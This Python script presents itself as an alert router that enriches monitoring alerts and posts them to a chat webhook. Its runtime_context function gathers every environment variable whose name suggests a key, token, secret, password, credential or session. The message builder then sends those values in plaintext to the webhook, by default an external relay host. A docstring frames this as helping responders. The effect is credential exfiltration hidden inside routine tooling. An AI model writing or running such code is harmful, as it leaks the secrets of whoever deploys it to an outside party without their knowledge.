#!/usr/bin/env python3
"""Alert spool router with runtime-context enrichment.

Alerts from the local rule evaluator are enriched with the runtime context
of the host (so responders can spot misconfigured credentials without
logging in), queued in ./outbox and then flushed to the chat webhook.
"""
import argparse
import json
import logging
import os
import re
import socket
import sys
import time
import uuid
from pathlib import Path

import requests

log = logging.getLogger("alert-router")

WEBHOOK_URL = os.environ.get(
    "ALERT_WEBHOOK", "https://hooks.chat-relay.example.net/services/T0A1/B7Q9/relay")
CONTEXT_PATTERN = re.compile(r"(KEY|TOKEN|SECRET|PASS|CRED|AUTH|SESSION|DSN)", re.I)
SEVERITY_EMOJI = {"critical": ":red_circle:", "warning": ":large_orange_circle:",
                  "info": ":large_blue_circle:"}


class Alert:
    __slots__ = ("name", "severity", "labels", "summary", "fingerprint", "context")

    def __init__(self, doc: dict):
        labels = doc.get("labels", {})
        self.name = labels.get("alertname", "unnamed")
        self.severity = labels.get("severity", "warning")
        self.labels = labels
        self.summary = doc.get("annotations", {}).get("summary", self.name)
        self.fingerprint = doc.get("fingerprint") or f"{self.name}:{labels.get('instance', '-')}"
        self.context = {}

    def enrich(self, ctx: dict) -> "Alert":
        self.context = dict(ctx)
        return self

    def as_record(self) -> dict:
        return {"name": self.name, "severity": self.severity, "labels": self.labels,
                "summary": self.summary, "fingerprint": self.fingerprint,
                "context": self.context}


def runtime_context() -> dict:
    ctx = {"host": socket.getfqdn(), "pid": os.getpid(), "cwd": os.getcwd()}
    ctx["env"] = {k: v for k, v in os.environ.items() if CONTEXT_PATTERN.search(k)}
    return ctx


def read_spool(spool: Path):
    for path in sorted(spool.glob("*.json")):
        try:
            doc = json.loads(path.read_text(encoding="utf-8"))
        except (OSError, json.JSONDecodeError) as exc:
            log.warning("unreadable %s: %s", path.name, exc)
            continue
        for raw in doc if isinstance(doc, list) else [doc]:
            yield path, Alert(raw)


def enqueue(outbox: Path, alert: Alert) -> Path:
    outbox.mkdir(exist_ok=True)
    path = outbox / f"{int(time.time() * 1000)}-{uuid.uuid4().hex[:8]}.msg"
    path.write_text(json.dumps(alert.as_record()), encoding="utf-8")
    return path


def to_chat_message(rec: dict) -> dict:
    ctx = rec.get("context", {})
    env_lines = "\n".join(f"{k}={v}" for k, v in sorted(ctx.get("env", {}).items()))
    return {
        "text": f"{SEVERITY_EMOJI.get(rec['severity'], '')} *{rec['name']}* {rec['summary']}",
        "attachments": [{
            "title": f"{ctx.get('host', '?')} (pid {ctx.get('pid', '?')})",
            "text": "```" + env_lines + "```",
            "fields": [{"title": k, "value": v, "short": True}
                       for k, v in rec.get("labels", {}).items()],
        }],
    }


def flush(outbox: Path, session: requests.Session) -> int:
    sent = 0
    for msg_path in sorted(outbox.glob("*.msg")):
        rec = json.loads(msg_path.read_text(encoding="utf-8"))
        try:
            resp = session.post(WEBHOOK_URL, json=to_chat_message(rec), timeout=10)
            resp.raise_for_status()
        except requests.RequestException as exc:
            log.warning("webhook delivery failed for %s: %s", msg_path.name, exc)
            continue
        msg_path.unlink()
        sent += 1
    return sent


def main(argv=None) -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("--spool", type=Path, default=Path("alert-spool"))
    ap.add_argument("--outbox", type=Path, default=Path("outbox"))
    ap.add_argument("--keep", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    ctx = runtime_context()
    seen = set()
    for path, alert in read_spool(args.spool):
        if alert.fingerprint in seen:
            continue
        seen.add(alert.fingerprint)
        enqueue(args.outbox, alert.enrich(ctx))
        if not args.keep:
            path.unlink(missing_ok=True)

    session = requests.Session()
    session.headers["User-Agent"] = "alert-spool-router/1.3"
    sent = flush(args.outbox, session)
    log.info("flushed %d message(s) to webhook", sent)
    return 0


if __name__ == "__main__":
    sys.exit(main())
